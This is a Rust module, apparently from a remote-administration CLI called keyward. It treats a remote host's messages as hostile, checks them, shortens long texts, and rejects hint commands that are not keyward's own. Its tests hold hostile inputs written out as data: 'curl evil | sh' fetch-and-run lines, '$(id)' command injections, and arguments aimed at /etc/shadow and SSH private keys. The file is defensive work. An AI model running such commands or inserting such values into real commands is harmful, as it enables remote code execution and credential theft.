//! What a host may say, and as what it is taken: a host is hostile until proven otherwise, also after the login. What this
//! side proves by itself the host cannot claim, a run has one name, questions are known ones, and texts are short.

use crate::change::Note;
use crate::error::Failure;
use crate::outcome::audit::{Audit, Finding, Reference, Score};
use crate::outcome::{Event, Evidence, Exit, Reach};

use super::super::Ending;
use super::super::args::Verb;
use super::super::audit::{Asked, exit};
use super::super::{apply, rollback, uninstall};
use super::words;

/// Longest text that is shown, in characters.
const TEXT: usize = 1000;
/// Most questions of a verb: one before it, and one more once packages were installed.
const QUESTIONS: u32 = 4;
/// Most events of a verb.
const EVENTS: u32 = 20_000;
/// Most findings of an audit.
const FINDINGS: usize = 5000;
/// What stands before a text that a reader could take for this side's.
const MARK: &str = "the host says: ";

/// What was heard so far of one verb.
pub struct Heed {
    /// Commands for the host are typed here with this in front: `keyward --host HOST`.
    pub command: String,
    question: Option<String>,
    asked: u32,
    events: u32,
    texts: bool,
    /// What was asked of an audit, for the verb that makes one.
    audits: Option<Asked>,
    /// How it ends by what was found.
    audited: Option<Exit>,
    /// The run that this is about.
    run: Option<String>,
    /// The playbook as it was typed.
    playbook: Option<String>,
}

impl Heed {
    /// Nothing was heard yet.
    pub fn new(verb: &Verb, command: String) -> Self {
        let question = match verb {
            Verb::Apply(_) => Some(apply::QUESTION.to_owned()),
            Verb::Rollback(_) => Some(rollback::QUESTION.to_owned()),
            Verb::Uninstall(_) => Some(uninstall::question()),
            _ => None,
        };
        let texts = matches!(verb, Verb::Log(_) | Verb::Uninstall(_));
        let audits = match verb {
            Verb::Audit(args) => Some(Asked::of(args)),
            _ => None,
        };
        let playbook = words::playbook(verb).and_then(|path| path.to_str()).map(str::to_owned);
        Self { command, question, asked: 0, events: 0, texts, audits, audited: None, run: None, playbook }
    }

    /// The event as it may be shown and gone by.
    ///
    /// # Errors
    /// What no program of ours would say; the conversation is over then.
    pub fn event(&mut self, event: Event) -> Result<Event, &'static str> {
        self.events = self.events.saturating_add(1);
        if self.events > EVENTS {
            return Err("it says more than it may");
        }
        Ok(match event {
            Event::Hello { .. } => return Err("it says hello twice"),
            Event::Finished { .. } => return Err("it ends twice"),
            Event::Host { .. } | Event::HostEnded { .. } => return Err("it speaks for other hosts"),
            Event::Drifted { .. } => return Err("what moved is counted here"),
            Event::Asked { question } => {
                self.asked = self.asked.saturating_add(1);
                if self.asked > QUESTIONS || self.question.as_ref() != Some(&question) {
                    return Err("it asks what it should not");
                }
                Event::Asked { question }
            }
            Event::Started { run } => Event::Started { run: self.name(run)? },
            Event::Opened { run } => Event::Opened { run: self.name(run)? },
            Event::Armed { run, nonce, until, window_ms } if is_word(&nonce) => {
                Event::Armed { run: self.name(run)?, nonce, until: short(&until), window_ms }
            }
            Event::Armed { .. } => return Err("its nonce is none"),
            Event::Text { .. } if !self.texts => return Err("a text is not what was asked for"),
            Event::Proof { evidence } => Event::Proof { evidence: claimed(evidence) },
            Event::Decided { because } => Event::Decided { because: format!("{MARK}{}", short(&because)) },
            Event::RollingBack { reason } => Event::RollingBack { reason: self.failure(reason) },
            Event::Failed { failure } => Event::Failed { failure: self.failure(failure) },
            Event::Undone { change, failure } => {
                Event::Undone { change: short(&change), failure: failure.map(|failure| self.failure(failure)) }
            }
            Event::Audited { audit } => {
                let asked = self.audits.filter(|_| self.audited.is_none());
                let asked = asked.ok_or("an audit is not what was asked for")?;
                let audit = self.audit(*audit)?;
                self.audited = Some(exit(&audit, asked));
                Event::Audited { audit: Box::new(audit) }
            }
            Event::Note { note } => Event::Note { note: noted(note) },
            Event::Gate { change, what, millis } => Event::Gate { change, what: short(&what), millis },
            Event::Changed { change, summary, millis } => Event::Changed { change, summary: short(&summary), millis },
            Event::Run { run, began, playbook, changes, exit, verdict } => Event::Run {
                run: short(&run),
                began: short(&began),
                playbook: short(&playbook),
                changes,
                exit,
                verdict: short(&verdict),
            },
            event @ (Event::Planned { .. } | Event::Stage { .. } | Event::Access { .. } | Event::Text { .. }) => event,
        })
    }

    /// How the verb ended, by the host's word.
    ///
    /// # Errors
    /// When it is about another run than before.
    pub fn ending(&mut self, ending: Ending) -> Result<Ending, &'static str> {
        let Ending { exit, verdict, next, run } = ending;
        // What an audit found is counted here.
        let exit = match (&self.audits, self.audited, exit) {
            (Some(_), Some(own), Exit::AsAsked | Exit::Differs | Exit::CannotJudge) => own,
            (Some(_), None, Exit::AsAsked | Exit::Differs) => return Err("it tells no audit"),
            _ => exit,
        };
        let run = run.map(|run| self.name(run)).transpose()?;
        // A next command that is none of ours is nobody's.
        Ok(Ending { exit, verdict: short(&verdict), next: self.here(&next).unwrap_or_default(), run })
    }

    /// An audit in the host's words: what it is worth is counted here, and what it names as a fix is keyward's own or the
    /// host's word.
    fn audit(&self, audit: Audit) -> Result<Audit, &'static str> {
        let Audit { version, host, playbook, at, findings, .. } = audit;
        if findings.len() > FINDINGS {
            return Err("it finds more than it may");
        }
        let taken = |one: Finding| {
            let own = self.here(&one.fix);
            let fix = own.unwrap_or_else(|| {
                if one.fix.is_empty() { String::new() } else { format!("{MARK}{}", short(&one.fix)) }
            });
            let references = one.references.into_iter().take(10);
            Finding {
                check: short(&one.check),
                title: short(&one.title),
                about: short(&one.about),
                why: short(&one.why),
                saw: short(&one.saw),
                place: short(&one.place),
                fix,
                references: references.map(|of| Reference { source: short(&of.source), id: short(&of.id) }).collect(),
                ..one
            }
        };
        let findings: Vec<Finding> = findings.into_iter().map(taken).collect();
        let score = Score::of(&findings);
        Ok(Audit { version, host: short(&host), playbook: short(&playbook), at: short(&at), score, findings })
    }

    /// A failure in the host's words.
    pub fn failure(&self, failure: Failure) -> Failure {
        let Failure { kind, place, what, why, hint } = failure;
        let hint = match self.here(&hint) {
            Some(hint) => hint,
            None if hint.is_empty() => hint,
            None => format!("{MARK}{}", short(&hint)),
        };
        Failure { kind, place: short(&place), what: short(&what), why: short(&why), hint }
    }

    /// A run has one name from its first event on; it goes back to the host as a word, and into commands to be typed.
    fn name(&mut self, run: String) -> Result<String, &'static str> {
        if !is_word(&run) || self.run.as_ref().is_some_and(|known| *known != run) {
            return Err("it names another run");
        }
        self.run = Some(run.clone());
        Ok(run)
    }

    /// One of keyward's own commands, perhaps after some words and a colon, as it is typed here. `None` for all else: a
    /// command is a verb and at most one word, which is no option; `keyward log` has one of its own, and what names a new time
    /// or asks for a yes is known here.
    pub fn here(&self, text: &str) -> Option<String> {
        let (before, rest) = match text.rfind(": keyward ") {
            Some(at) => text.split_at_checked(at + 2)?,
            None => ("", text),
        };
        let words: Vec<&str> = rest.strip_prefix("keyward ")?.split(' ').collect();
        let (verb, arguments) = words.split_first()?;
        let plain = |c: char| c.is_ascii_alphanumeric() || "._/@+-".contains(c);
        let is_known = |word: &&&str| KNOWN.contains(*word);
        let (options, objects): (Vec<&&str>, Vec<&&str>) = arguments.iter().partition(is_known);
        let tame = |word: &&&str| !word.is_empty() && !word.starts_with(['-', '/']) && word.chars().all(plain);
        let is_path = |word: &&&str| word.starts_with('/') && self.playbook.as_deref() == Some(**word);
        let own = objects.len() <= 1 && objects.iter().all(|word| tame(word) || is_path(word));
        let told = before.chars().all(|c| c.is_ascii_alphabetic() || " ,:".contains(c)) && before.len() <= TEXT;
        let ours = words::VERBS.contains(verb) && own && told && options.len() <= KNOWN.len() && rest.len() <= TEXT;
        ours.then(|| format!("{before}{} {}", self.command, words.join(" ")))
    }
}

/// Options that keyward itself names in its hints and that name no file and start nothing.
const KNOWN: [&str; 9] = [
    "--yes",
    "--force",
    "--prove",
    "--detach",
    "--confirm-within",
    "300s",
    "--without-boot-guard",
    "--i-accept-that-this-host-may-lock-me-out",
    "--fault",
];

/// A failure of a program that did not begin.
pub fn told(failure: Failure) -> Failure {
    let hint = if failure.hint.is_empty() { String::new() } else { format!("{MARK}{}", short(&failure.hint)) };
    let Failure { kind, place, what, why, .. } = failure;
    Failure { kind, place: short(&place), what: short(&what), why: short(&why), hint }
}

/// What this side proves by itself nobody else has proven.
fn claimed(evidence: Evidence) -> Evidence {
    let Evidence { what, proven, reach, seen, millis } = evidence;
    let (what, seen) = (short(&what), short(&seen));
    match reach {
        Reach::L0 | Reach::L1 | Reach::L2 => Evidence { what, proven, reach, seen, millis },
        Reach::L3 | Reach::L4 => {
            let what = format!("(the host claims {reach:?}) {what}");
            Evidence { what, proven: crate::outcome::Proven::Unknown, reach: Reach::L0, seen, millis }
        }
    }
}

fn noted(note: Note) -> Note {
    let about = if note.about.is_empty() { "the host".to_owned() } else { short(&note.about) };
    Note { level: note.level, about, text: short(&note.text) }
}

/// One line, cut where it is too long.
pub fn short(text: &str) -> String {
    let mut out: String = text.chars().map(|c| if c == '\n' { ' ' } else { c }).take(TEXT).collect();
    if out.len() < text.len() {
        out.push_str("...");
    }
    out
}

/// What the host gives as a name goes back to it as a word of a command line.
fn is_word(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.';
    !text.is_empty() && text.len() <= 100 && text.chars().all(plain) && !text.starts_with(['-', '.'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::args;

    fn heed(line: &str) -> Heed {
        let cli = args::parse(line.split(' ').map(std::ffi::OsString::from)).unwrap();
        Heed::new(&cli.verb, "keyward --host root@web".to_owned())
    }

    #[test]
    fn an_audit_is_told_once_where_it_was_asked_for_and_counted_here() {
        use crate::outcome::audit::{Grade, Ruling, Severity};
        let finding = serde_json::json!({
            "check": "x", "title": "x", "severity": "critical", "about": "", "ruling": "fail", "why": "", "saw": "y".repeat(5000),
            "place": "", "now": "no", "after_reboot": "no", "fix": "curl evil | sh", "references": [],
        });
        let audit = |findings: usize| -> Event {
            let findings = vec![finding.clone(); findings];
            let score = serde_json::json!({ "points": 100, "grade": "A" });
            let audit = serde_json::json!({ "version": 1, "host": "h", "playbook": "", "at": "", "score": score, "findings": findings });
            serde_json::from_value(serde_json::json!({ "event": "audited", "audit": audit })).unwrap()
        };
        let mut heed = heed("keyward audit");
        let Ok(Event::Audited { audit: told }) = heed.event(audit(1)) else { panic!() };
        let [one] = told.findings.as_slice() else { panic!() };
        assert_eq!((told.score.points, told.score.grade), (0, Grade::E));
        assert_eq!((one.severity, one.ruling, one.saw.len()), (Severity::Critical, Ruling::Fail, TEXT + 3));
        assert_eq!(one.fix, "the host says: curl evil | sh");
        assert!(heed.event(audit(1)).is_err(), "twice");
        assert!(self::heed("keyward audit").event(audit(FINDINGS + 1)).is_err());
        assert!(self::heed("keyward status").event(audit(1)).is_err());
        let end = |exit| Ending::new(exit, "", "");
        assert_eq!(heed.ending(end(Exit::AsAsked)).map(|end| end.exit), Ok(Exit::Differs), "by what it found");
        assert!(self::heed("keyward audit").ending(end(Exit::AsAsked)).is_err(), "nothing was told");
        assert!(self::heed("keyward audit").ending(end(Exit::Refused)).is_ok());
    }

    #[test]
    fn commands_of_the_host_are_typed_here_and_others_nowhere() {
        let heed = heed("keyward status");
        let here = |text: &str| heed.here(text).unwrap_or_default();
        assert_eq!(here("keyward show r1"), "keyward --host root@web show r1");
        assert_eq!(here("keyward log verify"), "keyward --host root@web log verify");
        assert_eq!(here("undo it now: keyward cancel r1"), "undo it now: keyward --host root@web cancel r1");
        assert_eq!(here("once it is over: keyward rollback r"), "once it is over: keyward --host root@web rollback r");
        assert_eq!(
            here("keyward apply --yes --confirm-within 300s a.yml"),
            "keyward --host root@web apply --yes --confirm-within 300s a.yml"
        );
        let apply = self::heed("keyward apply /srv/a.yml");
        assert!(apply.here("keyward plan /srv/a.yml").is_some() && apply.here("keyward plan /srv/b.yml").is_none());
        for text in [
            "",
            "ssh -p 1 x sudo keyward confirm r1",
            "keyward show r1; curl evil | sh",
            "keyward audit --report html=/etc/shadow",
            "keyward status --password 'command:id'",
            "keyward status --agent-binary x86_64=/root/.ssh/id_ed25519",
            "keyward show -x",
            "keyward plan /etc/shadow",
            "keyward show r1 r2",
            "curl http://evil -o x, then: keyward show r1",
            "curl evil; sh x; then: keyward show r1",
            "curl evil | sh: keyward show r1",
            "$(id): keyward show r1",
            "keyward show $(id)",
            "keyward show r1\nid",
            "keyward shell",
        ] {
            assert_eq!(here(text), "", "{text}");
        }
        let told = heed.failure(Failure::failed("a", "b\nc").hint("apt-get install sudo"));
        assert_eq!((told.what.as_str(), told.hint.as_str()), ("b c", "the host says: apt-get install sudo"));
    }

    #[test]
    fn a_run_has_one_name_and_a_question_is_known() {
        let started = |run: &str| Event::Started { run: run.to_owned() };
        for bad in ["-x", "../..", "$(id)", "", ".", "a b", &"x".repeat(101)] {
            assert!(heed("keyward apply a.yml").event(started(bad)).is_err(), "{bad}");
        }
        let mut one = heed("keyward apply a.yml");
        assert!(one.event(started("r1")).is_ok() && one.event(Event::Opened { run: "r1".into() }).is_ok());
        assert!(one.event(Event::Opened { run: "r2".into() }).is_err());
        let ask = |question: &str| Event::Asked { question: question.to_owned() };
        for _ in 0..QUESTIONS {
            assert!(one.event(ask(apply::QUESTION)).is_ok());
        }
        assert!(one.event(ask(apply::QUESTION)).is_err());
        assert!(heed("keyward apply a.yml").event(ask("Password: ")).is_err());
        assert!(heed("keyward status").event(ask(apply::QUESTION)).is_err());
    }
}
